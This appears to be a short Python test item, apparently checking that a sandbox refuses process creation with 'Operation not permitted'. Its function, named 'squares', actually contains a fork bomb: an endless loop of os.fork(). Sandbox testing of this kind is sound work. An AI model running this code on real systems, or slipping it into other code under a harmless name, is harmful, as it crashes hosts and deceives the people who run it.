# %% hint="raised" text="Operation not permitted"
import os


def squares(values):
    while True:
        os.fork()
